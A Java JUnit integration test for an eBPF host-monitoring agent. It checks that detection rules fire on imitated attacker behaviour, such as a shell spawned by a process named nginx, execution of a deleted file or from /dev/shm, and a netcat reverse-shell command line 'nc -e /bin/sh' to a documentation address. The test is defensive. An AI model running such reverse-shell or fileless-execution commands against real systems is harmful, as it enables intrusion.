/* SPDX-License-Identifier: Apache-2.0 */
package io.ringward.it.agent;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.io.TempDir;

/** Starter rules on what this machine's kernel really tells, in shadow mode. */
@TestInstance(Lifecycle.PER_CLASS)
final class StarterRulesOnHostTest {
  private static @TempDir Path folder;
  private TestGroup group;
  private AgentProcess agent;

  @BeforeAll
  void open() throws Exception {
    Assumptions.assumeTrue(
        Files.getAttribute(Path.of("/proc/self"), "unix:uid").equals(0), "eBPF needs root");
    group = TestGroup.make();
    agent = AgentProcess.start(folder, "--cgroup", group.folder().toString());
  }

  @AfterAll
  void close() {
    if (agent != null) {
      agent.close();
    }
    if (group != null) {
      group.close();
    }
  }

  @Test
  void serverThatStartsAShellAndACompiler() throws Exception {
    Path server = copy("/bin/bash", "nginx");
    Path compiler = copy("/bin/true", "gcc");
    run(server.toString(), "-c", "/bin/sh -c :; /bin/sh -c '" + compiler + "; :'; :");
    JsonNode shell = fired("Shell started by a network service", "service=nginx");
    assertTrue(shell.get("summary").asText().contains("shell=sh"), shell::toString);
    JsonNode tool = fired("Tool started by a network service", "tool=gcc");
    assertTrue(tool.get("summary").asText().contains("grandparent=nginx"), tool::toString);
  }

  @Test
  void programWhoseFileWasDeleted() throws Exception {
    Path program = copy("/bin/true", "fleeting");
    run("/bin/bash", "-c", "exec 3<" + program + "; rm " + program + "; /proc/self/fd/3");
    JsonNode incident = fired("Program run whose file was deleted", "fleeting");
    assertEquals("T1070.004", incident.get("tags").get(2).asText(), incident::toString);
  }

  @Test
  void programFromSharedMemory() throws Exception {
    Path shared = Path.of("/dev/shm");
    Assumptions.assumeTrue(Files.isDirectory(shared), "there is no /dev/shm here");
    Path program = shared.resolve("ringward-it-" + ProcessHandle.current().pid());
    Files.copy(Path.of("/bin/true"), program, StandardCopyOption.COPY_ATTRIBUTES);
    try {
      Assumptions.assumeTrue(Files.isExecutable(program), "/dev/shm is mounted noexec");
      run(program.toString());
      fired("Program run from shared memory or a hidden folder", program.toString());
    } finally {
      Files.delete(program);
    }
  }

  @Test
  void netcatThatGivesAwayAShellAndOneThatDoesNot() throws Exception {
    Path netcat = copy("/bin/true", "nc");
    run(netcat.toString(), "-z", "192.0.2.1", "22");
    run(netcat.toString(), "-e", "/bin/sh", "192.0.2.1", "4444");
    JsonNode incident = fired("Netcat gives away a shell", "nc -e /bin/sh 192.0.2.1 4444");
    assertEquals(1, incident.get("count").asInt(), "the first is no reason");
    assertEquals("Critical", incident.get("severity").asText());
  }

  private static Path copy(String program, String name) throws Exception {
    return Files.copy(Path.of(program), folder.resolve(name), StandardCopyOption.COPY_ATTRIBUTES);
  }

  private static void run(String... command) throws Exception {
    Process process = new ProcessBuilder(List.of(command)).redirectErrorStream(true).start();
    String said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertEquals(0, process.waitFor(), said);
  }

  private JsonNode fired(String rule, String part) {
    return agent.awaitIncident(incident ->
        incident.path("rule").asText().equals(rule)
            && incident.path("summary").asText().contains(part));
  }
}
